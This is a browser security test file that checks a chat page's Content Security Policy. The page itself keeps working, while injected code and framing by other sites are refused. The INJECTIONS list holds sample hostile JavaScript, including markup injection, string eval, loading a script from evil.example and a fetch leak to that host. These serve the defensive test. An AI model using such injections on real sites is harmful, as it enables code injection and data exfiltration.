"""What the page's policy does in a real Chromium: the page lives in it, injected code does not."""

from typing import Any

import pytest
from support.page_browser import Person, RunningNode, wait_until

pytestmark = [pytest.mark.browser, pytest.mark.kill, pytest.mark.socket, pytest.mark.slow]

INJECTIONS = {
    "markup": "() => { document.body.innerHTML = '<b>x</b>'; }",
    "a policy of its own": "() => { trustedTypes.createPolicy('evil', {createHTML: x => x}); }",
    "a script's text": "() => { const s = document.createElement('script'); s.text = 'x'; }",
    "eval": "() => { window.setTimeout('window.hit = 1', 0); }",
    "another's script": """() => new Promise((resolve, reject) => {
        const s = document.createElement('script');
        s.src = 'https://evil.example/x.js';
        s.onload = resolve; s.onerror = () => reject(new Error('refused'));
        document.head.append(s);
    })""",
    "a leak": "() => fetch('https://evil.example/', {mode: 'no-cors'})",
}


def test_the_page_lives_within_its_policy_and_injected_code_does_not(
    node: RunningNode, browser: Any
) -> None:
    ada = Person(browser, node, "Ada")
    ada.page.evaluate(
        "() => { window.refused = []; document.addEventListener('securitypolicyviolation',"
        " event => window.refused.push(event.effectiveDirective)); }"
    )
    ada.say("hello https://a.example/x")
    ada.wait_for("hello https://a.example/x")
    assert ada.page.evaluate("() => window.refused") == []
    assert ada.complaints == []
    for name, injection in INJECTIONS.items():
        with pytest.raises(Exception, match=r"rust|refused|Failed to fetch|violates"):
            ada.page.evaluate(injection)
            pytest.fail(f"{name} was let through")
    directives = set(ada.page.evaluate("() => window.refused"))
    assert {"require-trusted-types-for", "trusted-types", "connect-src"} <= directives
    assert ada.page.evaluate("() => window.hit") is None
    ada.say("still here")
    ada.wait_for("still here")


def test_no_other_site_can_frame_the_page(node: RunningNode, browser: Any) -> None:
    page = browser.new_page()
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    page.set_content(f'<iframe src="{node.url}"></iframe>')
    wait_until(page, lambda: refused)
    assert any("frame-ancestors" in text or "X-Frame-Options" in text for text in refused)
